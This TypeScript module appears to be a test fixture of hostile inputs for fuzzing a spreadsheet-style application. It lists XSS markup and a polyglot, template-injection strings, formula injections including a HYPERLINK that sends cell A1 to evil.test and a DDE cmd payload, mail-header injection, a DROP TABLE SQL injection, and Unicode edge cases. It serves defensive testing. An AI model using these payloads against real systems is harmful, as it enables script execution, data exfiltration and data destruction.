/**
 * What anybody may write into a cell, a header, a sheet's name or a metric's, made of parts: each list is put together
 * here, so that a new way in is one line.
 */

/** Runs wherever a text is taken for code. */
const CODE = "window.__ran=1";

/** Ends whatever a text may have been put into. */
const ENDS = ["", '">', "'>", "`>", "</script>", "</style>", "</textarea>", "</title>", "-->", "]]>"];

/** Elements that run code by themselves, without a click. */
const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<input autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}><summary>x</summary></details>`,
  `<video><source onerror=${CODE}></video>`,
  `<style onload=${CODE}></style>`,
];

/** Markup that fetches something, or leads away. */
const FETCHES = [
  "<img src=//evil.test/pixel>",
  "<link rel=stylesheet href=//evil.test/a.css>",
  "<style>@import '//evil.test/b.css'</style>",
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  "<form action=//evil.test/><button>OK</button></form>",
  "<base href=//evil.test/>",
  '<a href="javascript:window.__ran=1">x</a>',
  '<div style="background:url(//evil.test/c)">x</div>',
];

const HANDLERS = ['"', "'", "`", ""].map(
  (quote) => `x${quote} autofocus onfocus=${CODE} onmouseover=${CODE} y=${quote}`,
);

const SCHEMES = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "vbscript:"].map(
  (scheme) => scheme + CODE,
);

const TEMPLATES = [
  "{{7*7}}",
  `{{constructor.constructor("${CODE}")()}}`,
  `\${${CODE}}`,
  "<%= 7*7 %>",
  "<?= 7*7 ?>",
  "#{7*7}",
];

/** What would be calculated, or would be told to somebody else, as a formula. */
const CALCULATIONS = [
  "1+1",
  'HYPERLINK("http://evil.test/?"&A1,"x")',
  'IMPORTXML("http://evil.test/","//a")',
  "cmd|' /C calc'!A0",
];
const FORMULAS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝"].flatMap((sign, at) => [
  sign + (CALCULATIONS[at % CALCULATIONS.length] ?? ""),
  `${sign}A1`,
]);

/** Texts that look like something else. */
const LOOKALIKES =
  "007|1/2|3-4|1e3|1,5|50%|$5|2026-01-31|12:30|TRUE|false|null|undefined|NaN|Infinity|0x10|#REF!|#N/A|'|'x|''x|\\|/|.|..|~|*|?".split(
    "|",
  );

const OBJECTS = "__proto__|constructor|prototype|toString|valueOf|hasOwnProperty|length|then".split("|");

const LETTERS = [
  ..."İstanbul|ISPARTA|ılık|I\u0307stanbul|ÇĞÖŞÜ çğöşü|Straße|é|e\u0301|ﬁ|مبيعات الشركة|日本語|Ωμέγα".split(
    "|",
  ),
  "\u202eevil\u202c",
  "\u2066evil\u2069",
  "a\u200bb\u200c\u200d",
  "\ufeffx",
  "a\u00adb\u00a0c",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b",
  "🏷️👩‍👩‍👧‍👦💸🇹🇷",
  "\ud83d",
  "x\udc00y",
  "\uffff",
];

const CONTROLS = ["\u0000", "a\u0000b", "\u0001", "\u001b[31mred", "a\u007fb", "a\u0085b", "a\bb"];

const BREAKS = ["a\nb", "a\rb", "a\r\nb", "a\u2028b", "a\u2029b", "a\u000bb", "a\tb"];

const MAIL = [
  "x\r\nBcc: eve@evil.test",
  "x\nSubject: y",
  "x\u2028Bcc: eve@evil.test",
  "x%0d%0aBcc: eve@evil.test",
  "=?utf-8?B?PGltZz4=?=",
  "x\r\n\r\n<b>body</b>",
];

const TABLES = ['a","b', "a;b", '"', '""', '"\n"', "a,b;c|d"];

const QUERIES = ["'; DROP TABLE deals; --", "1 OR 1=1", "%", "_", "\\'; --"];

/** Signs that stand for others in pages and in formulas. */
const SIGNS = ["&amp;", "&lt;b&gt;", "&", "<", ">", "{", "}", "${", "{{", "\\u0041", "%41", "<b>bold</b>"];

/** By what they are about. */
export const hostileTexts = {
  markup: [
    ...ELEMENTS.map((element, at) => (ENDS[at % ENDS.length] ?? "") + element),
    ...ENDS.slice(1),
    ...FETCHES,
  ],
  handlers: HANDLERS,
  schemes: SCHEMES,
  templates: TEMPLATES,
  formulas: FORMULAS,
  lookalikes: LOOKALIKES,
  objects: OBJECTS,
  letters: LETTERS,
  controls: CONTROLS,
  breaks: BREAKS,
  mail: MAIL,
  tables: TABLES,
  queries: QUERIES,
  signs: SIGNS,
  long: ["W".repeat(300), "çok uzun ".repeat(60).trim()],
} as const;

/** All of them, each once. */
export const everyText: readonly string[] = [...new Set(Object.values(hostileTexts).flat())];

/** As much as a cell holds. */
export const LONGEST = "x".repeat(50_000);

/** One text that is code in whatever it is put into: a link, an attribute in either quotes, markup, a script, a style. */
export const POLYGLOT = `javascript:/*--></title></style></textarea></script>"'\`><img src=x onerror=${CODE}> <svg onload=${CODE}>/*" onfocus=${CODE} autofocus */${CODE}//`;
